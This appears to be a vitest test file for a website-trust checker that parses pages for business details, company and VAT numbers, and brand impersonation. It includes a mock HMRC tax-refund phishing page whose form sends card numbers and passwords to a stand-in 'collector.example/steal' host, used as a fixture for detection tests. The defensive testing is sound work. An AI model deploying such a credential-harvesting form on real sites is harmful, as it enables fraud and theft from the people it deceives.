import { describe, expect, it } from 'vitest'

import { brandOnPage, extractBusinessDetails, guessSector } from './business-details.ts'
import { parsePage } from './page-parser.ts'

const SHOP = `<!doctype html>
<html lang="en-GB">
<head>
  <title>Acme Kettles | Great British Kettles</title>
  <meta name="description" content="Kettles and toasters delivered across the UK.">
  <meta property="og:site_name" content="Acme Kettles">
  <meta property="og:description" content="The UK's favourite kettle shop since 1998.">
  <script>document.write('<p>never run</p>'); var card = "4111";</script>
  <style>.x { color: red }</style>
</head>
<body>
  <h1>Shop kettles</h1>
  <p>Add to basket, checkout in seconds, free delivery on every order. Our sale ends soon.</p>
  <form action="/basket"><input name="q"></form>
  <a href="/contact-us">Contact us</a>
  <a href="mailto:hello@acme-kettles.co.uk">Email</a>
  <a href="tel:+442079460000">Call</a>
  <footer>
    <p>Acme Kettles Limited. Registered in England and Wales, company number 01234567.</p>
    <p>VAT No. GB 123 4567 89</p>
    <address>Unit 4, Kettle Park<br>Leeds<br>LS1 4AP</address>
  </footer>
</body>
</html>`

const PHISH = `<html><head><title>HMRC: claim your tax refund</title></head>
<body><img alt="HMRC logo" src="/logo.png">
<form action="https://collector.example/steal" method="post">
<input name="cardnumber" autocomplete="cc-number"><input type="password" name="pw">
</form></body></html>`

describe('parsePage', () => {
  it('reads the title, descriptions, language, links and forms, and never the scripts', () => {
    const facts = parsePage(SHOP)
    expect(facts).toMatchObject({
      title: 'Acme Kettles | Great British Kettles',
      metaDescription: 'Kettles and toasters delivered across the UK.',
      ogDescription: "The UK's favourite kettle shop since 1998.",
      siteName: 'Acme Kettles',
      language: 'en-GB',
      headings: ['Shop kettles'],
      hasPasswordField: false,
      hasCardField: false,
      formActions: ['/basket'],
    })
    expect(facts.text).not.toContain('never run')
    expect(facts.text).not.toContain('color: red')
    expect(facts.links.map((link) => link.href)).toContain('/contact-us')
  })

  it('finds password and card fields', () => {
    const facts = parsePage(PHISH)
    expect(facts).toMatchObject({ hasPasswordField: true, hasCardField: true })
    expect(facts.imageAlts).toEqual(['HMRC logo'])
  })

  it('survives broken HTML', () => {
    expect(parsePage('<html><title>Half<p>open <b>tags').title).toBe('Half<p>open <b>tags')
    expect(parsePage('').title).toBeNull()
  })
})

describe('extractBusinessDetails', () => {
  it('reads the business behind a shop page', () => {
    const details = extractBusinessDetails(
      parsePage(SHOP),
      'https://www.acme-kettles.co.uk/',
      'acme-kettles.co.uk',
      'www.acme-kettles.co.uk',
    )
    expect(details).toEqual({
      legalName: 'Acme Kettles Limited',
      tradingName: 'Acme Kettles',
      tradingAddress: 'Unit 4, Kettle Park, Leeds, LS1 4AP',
      contactEmail: 'hello@acme-kettles.co.uk',
      contactPhone: '+442079460000',
      contactPage: 'https://www.acme-kettles.co.uk/contact-us',
      companyNumber: '01234567',
      vatNumber: 'GB123456789',
      sector: 'shopping',
      description: "The UK's favourite kettle shop since 1998.",
      brandMentioned: null,
    })
  })

  it.each([
    ['Company No: SC123456', 'SC123456'],
    ['Registration number 09876543', '09876543'],
    ['Reg. no. 12345678', '12345678'],
    ['Registered in Scotland No. SC654321', 'SC654321'],
  ])('reads the company number in "%s"', (text, number) => {
    const details = extractBusinessDetails(
      parsePage(`<p>${text}</p>`),
      'https://x.test/',
      'x.test',
      'x.test',
    )
    expect(details.companyNumber).toBe(number)
  })

  it('names a brand the page shows but the domain does not carry', () => {
    expect(brandOnPage(parsePage(PHISH), 'refund-claims.top', 'secure.refund-claims.top')).toBe(
      'HMRC',
    )
    // The brand's own site, or a domain that already carries the name, is not this signal.
    expect(brandOnPage(parsePage(PHISH), 'gov.uk', 'www.gov.uk')).toBeNull()
    expect(brandOnPage(parsePage(PHISH), 'hmrc-refund.top', 'hmrc-refund.top')).toBeNull()
  })

  it('does not read a short brand name inside a word', () => {
    const facts = parsePage('<title>Free delivery on every feed</title><h1>Adverse weather</h1>')
    expect(brandOnPage(facts, 'shop.test', 'shop.test')).toBeNull()
  })

  it('guesses no sector without enough words', () => {
    expect(guessSector(parsePage('<p>Welcome to our website</p>'))).toBeNull()
  })
})
